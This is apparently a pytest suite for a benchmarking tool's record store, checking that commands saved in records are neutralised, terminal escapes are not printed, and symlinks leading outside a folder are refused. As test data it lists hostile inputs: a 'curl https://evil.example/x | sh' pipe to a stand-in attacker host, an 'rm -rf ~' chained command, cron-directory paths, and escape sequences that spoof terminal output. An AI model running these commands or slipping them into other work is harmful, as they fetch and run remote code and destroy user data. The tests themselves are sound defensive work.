"""Somebody else's records: they run nothing, steer no terminal, and lead nowhere but to themselves."""

import json
import os
import shlex

import pytest
from helpers import campaign, factory

from greenbench import api
from greenbench.cli.main import main
from greenbench.records.calls import NO_CALL, rebuilt
from greenbench.records.store import MOST_BYTES, Store, canonical, load, told_apart

CALLS = [
    "greenbench bench model=smollm2-135m technique=int8_bnb",
    "greenbench bench 'technique=[prune_depth,int8_bnb]' task.items=5",
    "greenbench bench +experiments=frontier-cpu technique.gptq.bits=3",
    "greenbench bench \"model.note='it''s (odd)'\"",
    "greenbench bench",
]
NO_CALLS = [
    "greenbench bench technique=none; curl https://evil.example/x | sh",
    "greenbench bench technique=none && rm -rf ~",
    "curl https://evil.example/x | sh",
    "greenbench report /etc",
    "greenbench bench --config-dir=/tmp/evil",
    "greenbench bench results=/etc/cron.d",
    "greenbench bench hydra.run.dir=/tmp",
    "greenbench bench +hydra.job.chdir=true",
    "greenbench bench model.path=${oc.env:HOME}",
    "greenbench bench technique=none\n",
    "greenbench bench 'technique=none\ncurl evil'",
    "greenbench bench 'technique=none\x1b[2J'",
    "greenbench bench 'technique=none\u202e'",
    "greenbench bench 'unclosed=",
    "greenbench\u00a0bench technique=none",
    "",
]
ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\nGREEN \u202etsil"


@pytest.mark.parametrize("text", CALLS)
def test_a_call_is_kept_word_by_word(text):
    assert shlex.split(rebuilt(text)) == shlex.split(text)


@pytest.mark.parametrize("text", NO_CALLS)
def test_what_is_no_call_is_not_shown(text):
    shown = rebuilt(text)
    assert shown in (NO_CALL, "greenbench bench technique=none")  # of a trailing line break
    assert shlex.split(shown, comments=True) in ([], ["greenbench", "bench", "technique=none"])


@pytest.mark.parametrize("mark", [";", "&&", "|", "$(id)", "`id`", ">", "*"])
def test_a_shell_finds_nothing_to_do_in_a_value(mark):
    text = rebuilt(f"greenbench bench {shlex.quote(f'model.note={mark} curl evil')}")
    assert text != NO_CALL
    assert shlex.split(text)[2] == f"model.note={mark} curl evil"
    assert f"'model.note={mark} curl evil'" in text


def written(tmp_path, folder="results", **changes):
    """A results directory with one sound run and one that was changed."""
    store = Store(tmp_path / folder)
    store.write(campaign.run("saver", 0.7))
    store.write(campaign.run("other", 0.8).model_copy(update=changes))
    return str(store.root)


def test_no_page_and_no_command_offers_a_command_of_somebodys(tmp_path, capsys):
    results = written(tmp_path, command="greenbench bench x=1; curl https://evil.example | sh")
    assert main(["report", results]) == 0
    for page in ("leaderboard.md", "index.html"):
        text = (tmp_path / "results" / page).read_text()
        assert "evil.example" not in text
        assert NO_CALL in text
    for words in (["advise", results], ["export", results],
                  ["advise", results, "--format", "json"]):  # fmt: skip
        assert main(words) == 0
        assert "evil.example" not in capsys.readouterr().out


WORDS = [
    "compare A B",
    "compare A B --format markdown",
    "compare A B --format json",
    "compare A B --fail-on energy>+3%",
    "advise A",
    "advise A --format markdown",
    "advise A --devices --rate 1",
    "export A",
    "export A --run R --format model-card",
    "report A",
    "export A --format model-card",
    "export A --run zz",
    "compare A A/records/odd\x1b[2J.json",
]


@pytest.mark.parametrize("words", WORDS)
def test_no_command_prints_an_escape_of_a_record(tmp_path, words, capsys):
    spec = campaign.run("other", 0.8).spec
    model = spec.model.model_copy(update={"name": f"m{ESCAPE}", "note": ESCAPE})
    device = spec.device.model_copy(update={"name": f"GPU{ESCAPE}"})
    evil = {
        "name": f"other{ESCAPE}",
        "started_at": ESCAPE,
        "codes": [ESCAPE],
        "spec": spec.model_copy(update={"model": model, "device": device}),
    }
    a, b = written(tmp_path, "a", **evil), written(tmp_path, "b", **evil)
    (tmp_path / "a" / "records" / "odd\x1b[2J.json").write_text("{")
    key = campaign.run("other", 0.8).key
    call = [
        {"A": a, "B": b, "R": key}.get(word, word.replace("A/", f"{a}/"))
        for word in words.split(" ")
    ]
    assert main(call) in (0, 1, 2, 3)
    told = capsys.readouterr()
    for line in (*told.out.splitlines(), *told.err.splitlines()):
        assert line.isprintable(), line
    assert not any(line.startswith("GREEN ") for line in told.out.splitlines())


def twins(tmp_path):
    """Two results directories, with a run of one key each, as two machines left it."""
    here, there = (
        campaign.run("saver", ratio).model_copy(update={"environment": {"machine": name}})
        for ratio, name in ((0.5, "a"), (0.6, "b"))
    )
    assert here.key == there.key
    for name, record in (("a", here), ("b", there)):
        Store(tmp_path / name).write(record)
    return [str(tmp_path / "a"), str(tmp_path / "b")]


def test_runs_of_one_key_are_told_apart_and_can_be_chosen(tmp_path, capsys):
    results = twins(tmp_path)
    records = api.load(*results)
    names = [told_apart(records)[id(record)] for record in records]
    assert len({*names}) == 2
    assert all(name.startswith(f"{records[0].key}-") for name in names)
    assert main(["export", *results]) == 0
    table = capsys.readouterr().out
    assert all(name in table for name in names)
    assert main(["export", *results, "--format", "model-card", "--run", records[0].key]) == 2
    assert all(name in capsys.readouterr().err for name in names[:1])
    for record, name in zip(records, names, strict=True):
        assert main(["export", *results, "--format", "model-card", "--run", name]) == 0
        card = capsys.readouterr().out
        assert f"{record.ratios['energy_per_token'].value:.2f}" in card


def test_their_pictures_are_two(tmp_path):
    results = twins(tmp_path)
    assert main(["report", *results, "-o", str(tmp_path / "out")]) == 0
    names = {f"{name}.svg" for name in told_apart(api.load(*results)).values()}
    drawn = {file.name for file in (tmp_path / "out" / "labels").iterdir()}
    assert {name.replace("-", "_") for name in names} <= {name.replace("-", "_") for name in drawn}
    assert len(names) == 2


def test_a_link_out_of_the_folder_is_not_followed(tmp_path):
    store = Store(tmp_path / "results")
    path = store.write(factory.record())
    outside = tmp_path / "secret.json"
    outside.write_bytes(canonical(campaign.run("saver", 0.7)))
    (store.records / "out.json").symlink_to(outside)
    (store.records / "up.json").symlink_to("../../secret.json")
    (store.records / "dangling.json").symlink_to(tmp_path / "nothing")
    (store.records / "inside.json").symlink_to(path.name)
    loaded = load([store.root])
    assert [record.name for record in loaded.records] == ["int8_bnb"]
    assert [name for name, _ in loaded.rejected] == ["out.json", "up.json"]
    assert {why for _, why in loaded.rejected} == {
        "It is a link that leads out of its folder, and is not followed."
    }


def test_a_folder_that_is_a_link_out_is_not_followed_either(tmp_path):
    elsewhere = Store(tmp_path / "elsewhere")
    elsewhere.write(factory.record())
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "records").symlink_to(elsewhere.records)
    loaded = load([tmp_path / "results"])
    assert loaded.records == []
    assert [name for name, _ in loaded.rejected] == ["records"]


def test_what_the_user_names_is_followed(tmp_path):
    """A link that is given by itself is the user's own wish."""
    store = Store(tmp_path / "results")
    path = store.write(factory.record())
    (tmp_path / "mine").symlink_to(store.root)
    (tmp_path / "one.json").symlink_to(path)
    assert len(load([tmp_path / "mine"]).records) == 1
    assert len(load([tmp_path / "one.json"]).records) == 1


def test_a_record_that_is_too_large_is_refused_unread(tmp_path):
    store = Store(tmp_path / "results")
    path = store.write(factory.record())
    large = store.records / "large.json"
    large.write_bytes(path.read_bytes())
    os.truncate(large, MOST_BYTES + 1)  # a hole: it takes no room
    (rejected,) = load([store.root]).rejected
    assert rejected == ("large.json", "It is over 64 MiB, the most that a record may have.")
    document = json.loads(path.read_bytes())
    large.write_text(json.dumps(document | {"started_at": "x"}).ljust(1 << 20))
    assert len(load([store.root]).records) == 2
